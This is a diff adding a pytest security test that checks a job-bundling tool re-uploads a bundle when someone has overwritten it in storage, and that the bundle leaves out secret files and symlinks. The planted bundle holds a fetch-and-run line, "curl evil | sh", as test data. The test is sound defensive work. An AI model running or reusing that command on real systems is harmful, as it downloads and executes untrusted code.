@@ -285,6 +285,50 @@ def test_follow_reattaches_after_a_dropped_connection_and_big_folders_go_through
     assert [f.base_name for f in found if f.base_name.endswith(".zip")], "no bundle in storage"
 
 
+@pytest.mark.security
+def test_a_replaced_bundle_in_storage_is_uploaded_again_not_trusted(s3, tmp_path, monkeypatch):
+    """Someone who can write to <storage>/bundles/ overwrites a bundle with their own code:
+    the next submission of the folder reads the object back, sees the hash mismatch, and
+    uploads the folder's bundle again (which never holds dotfiles, keys or symlinks)."""
+    import io
+    import zipfile
+
+    from rayfleet.jobs import bundle
+    from rayfleet.storage.filesystem import filesystem_for, read_bytes, write_bytes
+    from rayfleet.storage.uri import parse_uri
+
+    monkeypatch.setenv("RAYFLEET_INLINE_BUNDLE_MB", "0")  # every folder goes through S3
+    folder = tmp_path / "spec"
+    (folder / "pkg").mkdir(parents=True)
+    (folder / "train.yaml").write_text("kind: TrainJob\n")
+    (folder / "pkg/loop.py").write_text("def train_loop(config): pass\n")
+    (folder / ".env").write_text("AWS_SECRET_ACCESS_KEY=do-not-ship\n")
+    (folder / "id_ed25519").write_text("do-not-ship\n")
+    (tmp_path / "home-secret").write_text("do-not-ship\n")
+    (folder / "data").symlink_to(tmp_path / "home-secret")
+    storage = parse_uri(f"{STORAGE}/bundle-check")
+
+    first = bundle.build(folder, storage, {})
+    uri = parse_uri(first.uploaded_to)
+    fs = filesystem_for(uri)
+    expected = read_bytes(fs, uri.fs_path)
+    planted = io.BytesIO()
+    with zipfile.ZipFile(planted, "w") as archive:
+        archive.writestr("bundle/train.yaml", "kind: TrainJob  # someone else's\n")
+        archive.writestr("bundle/pkg/loop.py", "import os; os.system('curl evil | sh')\n")
+    write_bytes(fs, uri.fs_path, planted.getvalue())
+
+    second = bundle.build(folder, storage, {})
+    assert second.uploaded_to == first.uploaded_to
+    assert read_bytes(fs, uri.fs_path) == expected == bundle.zip_folder(folder)
+    assert "held other bytes" in second.note and "uploaded" in second.note
+    assert bundle.build(folder, storage, {}).note is None  # verified, reused as it is
+    with zipfile.ZipFile(io.BytesIO(expected)) as archive:
+        assert sorted(archive.namelist()) == ["bundle/pkg/loop.py", "bundle/train.yaml"]
+        assert all(b"do-not-ship" not in archive.read(n) for n in archive.namelist())
+    assert sorted(second.skipped) == [".env", "data", "id_ed25519"]
+
+
 def test_submit_without_follow_then_stop_keeps_the_record_current(head, user_env):
     name = "cluster-stopped"
     args = ["--address", head.address]
